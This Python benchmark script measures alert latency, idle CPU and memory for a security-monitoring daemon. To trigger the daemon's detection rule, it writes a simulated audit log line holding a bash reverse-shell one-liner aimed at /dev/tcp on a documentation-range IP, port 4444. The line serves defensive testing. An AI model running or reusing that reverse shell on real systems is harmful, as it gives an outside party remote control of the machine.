"""Latency and weight of the live daemon, without a model.

    python bench/latency.py [alerts]

Starts `tellwhy run` on a temporary directory with a webhook receiver, appends one line that makes a rule fire, waits
for its base alert, and repeats as another user each time. Prints line → webhook p50 and p99, idle CPU over ten
seconds, and the resident sizes of daemon and memory child. What a wake-up costs differs tenfold between machines and
hours, so the idle figure stands beside that of a bare asyncio loop that wakes as often and does nothing.
"""

import asyncio
import statistics
import sys
import time

import psutil

from daemon.cli.demo.receiver import Receiver
from daemon.cli.demo.scenario import Execution, execve
from daemon.cli.demo.stage import Stage, new_secret, staged

_IDLE = 10.0
_WAKE_UPS = 18  # a second: what the idle daemon's event loop makes
_BARE = f"""
import asyncio, time

async def main():
    began, used = time.monotonic(), time.process_time()
    while time.monotonic() - began < {_IDLE}:
        await asyncio.sleep(1 / {_WAKE_UPS})
    print((time.process_time() - used) / (time.monotonic() - began))

asyncio.run(main())
"""


async def one(stage: Stage, receiver: Receiver, number: int) -> float:
    """Seconds from writing a line to the receiver's acceptance of its alert."""
    shell = f"bash -i >& /dev/tcp/203.0.113.{number % 250 + 1}/4444 0>&1"
    run = Execution(("bash", "-c", shell), "/usr/bin/bash", 30_000 + number, 900, f"user{number}", 2000 + number)
    seen = len(receiver.accepted)
    written = time.time()
    stage.append("audit.log", execve(run, written, 500_000 + number))
    while True:
        receiver.arrived.clear()
        for received in receiver.accepted[seen:]:
            data = received.body["data"]
            if data["version"] == 1 and f"user{number}" in data["entity"]:
                return received.at - written
        await asyncio.wait_for(receiver.arrived.wait(), 30)


async def bare() -> float:
    """The share of a core that a loop takes which only wakes up."""
    process = await asyncio.create_subprocess_exec(sys.executable, "-c", _BARE, stdout=asyncio.subprocess.PIPE)
    out, _ = await process.communicate()
    return float(out)


def weigh(process: psutil.Process) -> tuple[int, int]:
    """Resident MiB of the daemon and of its memory child."""
    children = sum(child.memory_info().rss for child in process.children(recursive=True))
    return process.memory_info().rss >> 20, children >> 20


async def main() -> None:
    """Print the figures."""
    alerts = int(sys.argv[1]) if len(sys.argv) > 1 else 100
    secret = new_secret()
    receiver = Receiver(secret)
    async with receiver.listening(), staged(receiver.port, secret) as stage:
        await stage.start()
        if not await stage.ready(60) or stage.process is None:
            raise SystemExit(stage.last_words())
        process = psutil.Process(stage.process.pid)
        seconds = [await one(stage, receiver, number) for number in range(alerts)]
        await asyncio.sleep(15)  # the memory catches up and the embedding model is loaded
        before, began = process.cpu_times(), time.monotonic()
        await asyncio.sleep(_IDLE)
        after, took = process.cpu_times(), time.monotonic() - began
        idle = (after.user + after.system - before.user - before.system) / took
        daemon_mib, child_mib = weigh(process)
    control = await bare()
    seconds.sort()
    p99 = seconds[min(len(seconds) - 1, round(0.99 * len(seconds)))]
    middle = statistics.median(seconds)
    print(f"latency: line → webhook over {alerts} alerts: p50 {middle * 1000:.0f} ms, p99 {p99 * 1000:.0f} ms")
    print(f"idle: {idle:.1%} of a core over {took:.0f} s with host gauges every 2 s, a bare loop {control:.1%}")
    print(f"resident: daemon {daemon_mib} MiB, memory child {child_mib} MiB")


if __name__ == "__main__":
    asyncio.run(main())
